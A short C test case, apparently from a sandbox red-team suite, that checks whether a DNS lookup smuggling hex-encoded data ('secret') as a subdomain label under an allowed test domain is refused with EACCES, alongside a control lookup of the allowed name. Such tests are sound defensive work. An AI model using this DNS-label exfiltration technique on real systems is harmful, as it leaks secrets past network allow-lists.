// SPDX-License-Identifier: Apache-2.0
/*
 * Attack: sends what it knows out as a label below the name that is allowed
 * Hook: (DNS stub)
 * Errno: EACCES
 * Control: looks up the allowed name
 * Record: resolve 736563726574.allowed.redteam.test
 * As: root+outside user+outside
 */
#include "tests/redteam/dns.h"

static int attack(void)
{
	return look_up("736563726574." NAME_ALLOWED);
}

static int control(void)
{
	return look_up(NAME_ALLOWED);
}

REDTEAM(.attack = attack, .control = control)
